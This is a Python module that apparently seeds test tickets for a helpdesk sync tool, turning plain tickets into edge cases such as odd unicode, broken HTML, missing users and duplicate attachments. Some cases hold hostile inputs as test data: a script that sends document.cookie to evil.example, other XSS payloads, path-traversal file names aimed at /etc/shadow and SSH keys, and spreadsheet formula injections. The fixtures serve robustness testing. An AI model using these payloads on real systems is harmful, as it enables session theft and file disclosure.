"""The odd cases real desks are full of: each function makes one plain ticket ugly."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable

from syncer.deskkit.world import SeedComment, SeedFile, SeedTicket
from syncer.sandbox.prose import Cast, Teller

GONE = -1
LONG_BODY = 65_536
LONG_TITLE = 300
MANY_COMMENTS = 60


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


PNG = b"\x89PNG\r\n\x1a\n" + b"".join(
    (
        _chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)),
        _chunk(b"IDAT", zlib.compress(b"\0\x7f")),
        _chunk(b"IEND", b""),
    )
)
"""One grey dot."""

_BINARY = bytes(range(256)) * 16
_RAMBLING = "and then it said that the operation could not be completed because of the earlier one, " * 14
_LONG = ("<p>" + "log line: connection to the server was refused, trying again. " * 2000)[: LONG_BODY - 4] + "</p>"
_LONG_UNICODE = "<div>" + "Ошибка соединения 🔥 " * 2500 + "</div>"


class Oddity:
    """What an odd case may need besides the ticket itself."""

    def __init__(self, cast: Cast, teller: Teller) -> None:
        self.cast = cast
        self.teller = teller
        self.previous: SeedTicket | None = None


def _unicode(ticket: SeedTicket, _: Oddity) -> None:
    # The same letters composed and decomposed, so that comparing without normalising shows.
    ticket.title = "Zażółć gęślą jaźń / 日本語の件名 / Cafe\u0301 ≠ Café"
    ticket.body = "<p>Příliš žluťoučký kůň — 漢字, ελληνικά, ಕನ್ನಡ, ﬁ ligature, Ⅷ, 𝔘𝔫𝔦𝔠𝔬𝔡𝔢</p>"


def _right_to_left(ticket: SeedTicket, _: Oddity) -> None:
    ticket.title = "الطابعة لا تعمل في الغرفة 214"
    ticket.body = '<p dir="rtl">שלום, המדפסת בחדר 214 לא עובדת. \u202bمرحبا\u202c (VPN)</p><p>\u202etxt.exe\u202c</p>'


def _emoji(ticket: SeedTicket, _: Oddity) -> None:
    ticket.title = "🔥🔥 Server room 👩🏽‍💻 🏳️‍🌈 🇨🇭 1️⃣"
    ticket.body = "<p>Please 🙏 help 😭😭😭</p><p>👨‍👩‍👧‍👦 are waiting</p>"


def _inline_images(ticket: SeedTicket, _: Oddity) -> None:
    ticket.body = (
        '<div style="font-family:Calibri"><p>See here:<br><img src="image001.png" alt="the error" '
        'width="400"></p>'
        '<p><img src="image002.png"></p><p>and <a href="https://intranet.acme.example/?a=1&amp;b=2">'
        "this page</a></p></div>"
    )
    ticket.files = [SeedFile(f"image00{n}.png", PNG, inline=True) for n in (1, 2)]


def _empty_body(ticket: SeedTicket, _: Oddity) -> None:
    ticket.body = ""


def _blank_body(ticket: SeedTicket, _: Oddity) -> None:
    ticket.body = "<p>&nbsp;</p><p><br></p>\n"


def _long_body(ticket: SeedTicket, _: Oddity) -> None:
    ticket.body = _LONG


def _long_unicode_body(ticket: SeedTicket, _: Oddity) -> None:
    ticket.body = _LONG_UNICODE


def _long_title(ticket: SeedTicket, _: Oddity) -> None:
    ticket.title = (f"{ticket.title} – please read all of this – " * 20)[: LONG_TITLE - 1] + "☎"


def _title_with_line_breaks(ticket: SeedTicket, _: Oddity) -> None:
    ticket.title = f"{ticket.title}\nsince this morning\r\n\tplease help"


def _title_like_a_formula(ticket: SeedTicket, oddity: Oddity) -> None:
    lead = oddity.teller.pick(("=HYPERLINK(1)", "+49 30 123", "-1", "@SUM(A1)", "\t=1+1"))
    ticket.title = f"{lead} {ticket.title}"


def _equal_times(ticket: SeedTicket, oddity: Oddity) -> None:
    if oddity.previous is not None:
        ticket.created = oddity.previous.created
    ticket.updated = ticket.created
    ticket.closed = None if ticket.closed is None else ticket.created
    ticket.comments = _conversation(ticket, oddity, 4)
    for comment in ticket.comments:
        comment.at = ticket.created


def _private_notes(ticket: SeedTicket, oddity: Oddity) -> None:
    ticket.comments = _conversation(ticket, oddity, 3)
    for comment in ticket.comments:
        comment.author, comment.private, comment.solution = (
            oddity.teller.pick(oddity.cast.agents),
            True,
            False,
        )
        comment.body = oddity.teller.note()


def _empty_file(ticket: SeedTicket, _: Oddity) -> None:
    ticket.files = [SeedFile("empty.log", b"")]


def _same_names(ticket: SeedTicket, _: Oddity) -> None:
    ticket.files = [SeedFile("screenshot.png", PNG), SeedFile("screenshot.png", PNG + b"\0second")]


def _foreign_file_names(ticket: SeedTicket, _: Oddity) -> None:
    names = (
        "Ärger mit Öl.txt",
        "报告 最终版.pdf",
        "résumé (1).doc",
        "🔥.png",
        "a;b=c\"d'.txt",
        "no extension",
    )
    ticket.files = [SeedFile(name, name.encode()) for name in names]


def _traversing_file_names(ticket: SeedTicket, _: Oddity) -> None:
    names = (
        "../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/shadow",
        "C:\\boot.ini",
        "..",
        "~/.ssh/id_rsa",
        "CON",
    )
    ticket.files = [SeedFile(name, b"harmless") for name in names]


def _binary_file(ticket: SeedTicket, _: Oddity) -> None:
    ticket.files = [SeedFile("dump.bin", _BINARY)]


def _missing_people(ticket: SeedTicket, oddity: Oddity) -> None:
    ticket.requester = ticket.creator = GONE
    ticket.assignee = GONE
    ticket.comments = _conversation(ticket, oddity, 2)
    ticket.comments[0].author = GONE


def _disabled_people(ticket: SeedTicket, oddity: Oddity) -> None:
    ticket.requester, ticket.assignee = _two(oddity.cast.disabled)
    ticket.comments = _conversation(ticket, oddity, 2)
    ticket.comments[0].author = ticket.requester


def _deleted_people(ticket: SeedTicket, oddity: Oddity) -> None:
    ticket.requester, ticket.assignee = _two(oddity.cast.deleted)
    ticket.creator = ticket.requester
    ticket.comments = _conversation(ticket, oddity, 2)
    ticket.comments[1].author = ticket.assignee


def _script(ticket: SeedTicket, _: Oddity) -> None:
    ticket.title = "<script>alert('title')</script> <b>not bold</b> {{ 7 * 7 }} %s"
    ticket.body = (
        "<p>before</p><script>document.location='https://evil.example/'+document.cookie</script>"
        '<img src=x onerror="alert(1)"><a href="javascript:alert(2)">click</a>'
        "<style>p{display:none}</style><p>after</p>"
    )


def _entities(ticket: SeedTicket, _: Oddity) -> None:
    ticket.title = "R&D: a &lt; b &amp;amp; &eacute; &#39;quoted&#39;"
    ticket.body = (
        "<p>Type &amp;lt;b&amp;gt; for &lt;b&gt;, &amp;amp; for &amp;; 3 &lt; 4 &nbsp; "
        "&euro; &#128293; &unknown; AT&T</p>"
    )


def _format_characters(ticket: SeedTicket, _: Oddity) -> None:
    ticket.title = "Tab\there, soft\u00adhyphen, zero\u200bwidth"
    ticket.body = (
        "\ufeff<p>tab\t, form feed\f, CR LF\r\n, lone CR\r, \u2028line and \u2029paragraph, \ufffd and \u2060joiner</p>"
    )


def _broken_html(ticket: SeedTicket, _: Oddity) -> None:
    ticket.body = (
        "<table><tr><td>Name<td>Value<tr><td>RAM<td>16 GB</table><ul><li>one<li>two</ul>"
        "<p>1 < 2 & 3 > 2<p>from Ann <ann@acme.example><pre>  line 1\n    line 2</pre>"
        "<b><i>crossed</b></i><!-- open"
    )


def _plain_text(ticket: SeedTicket, _: Oddity) -> None:
    ticket.body = "No markup at all.\nSecond line\n\n> quoted\n-- \nsignature"


def _no_comments(ticket: SeedTicket, _: Oddity) -> None:
    ticket.comments = []


def _many_comments(ticket: SeedTicket, oddity: Oddity) -> None:
    ticket.comments = _conversation(ticket, oddity, MANY_COMMENTS)
    for number, comment in enumerate(ticket.comments, 1):
        comment.body = f"<p>{number}. {_RAMBLING}</p>"


def _comments_with_files(ticket: SeedTicket, oddity: Oddity) -> None:
    ticket.comments = _conversation(ticket, oddity, 3)
    ticket.comments[0].files = [SeedFile("log.txt", b"line 1\r\nline 2\r\n"), SeedFile("photo.png", PNG)]
    ticket.comments[1].body = '<p>Look: <img src="shot.png"></p>'
    ticket.comments[1].files = [SeedFile("shot.png", PNG, inline=True)]
    ticket.comments[2].private = True
    ticket.comments[2].files = [SeedFile("for agents only.txt", b"secret")]


def _odd_comments(ticket: SeedTicket, oddity: Oddity) -> None:
    ticket.comments = _conversation(ticket, oddity, 4)
    for comment, body in zip(ticket.comments, ("", _LONG, "🙏", "<script>alert(3)</script>"), strict=True):
        comment.body = body


def _two(positions: list[int]) -> tuple[int, int]:
    return positions[0], positions[1 % len(positions)]


def _conversation(ticket: SeedTicket, oddity: Oddity, length: int) -> list[SeedComment]:
    """So many comments between opening and last update, which moves where there is no room."""
    teller, cast = oddity.teller, oddity.cast
    ticket.updated = max(ticket.updated, ticket.created + length + 1)
    ticket.closed = None if ticket.closed is None else ticket.updated
    step = (ticket.updated - ticket.created) // (length + 1)
    comments = []
    for number in range(1, length + 1):
        private = teller.chance(0.25)
        author = teller.pick(cast.agents) if private or number % 2 else ticket.requester
        body = teller.note() if private else teller.reply()
        comments.append(SeedComment(author, body, ticket.created + number * step, private))
    return comments


CASES: tuple[Callable[[SeedTicket, Oddity], None], ...] = (
    _unicode,
    _missing_people,
    _inline_images,
    _many_comments,
    _private_notes,
    _empty_body,
    _comments_with_files,
    _entities,
    _long_body,
    _title_with_line_breaks,
    _equal_times,
    _traversing_file_names,
    _emoji,
    _disabled_people,
    _script,
    _same_names,
    _right_to_left,
    _deleted_people,
    _long_title,
    _empty_file,
    _title_like_a_formula,
    _foreign_file_names,
    _format_characters,
    _no_comments,
    _binary_file,
    _broken_html,
    _long_unicode_body,
    _odd_comments,
    _blank_body,
    _plain_text,
)
"""In the order they appear: the first few already show the most different things."""
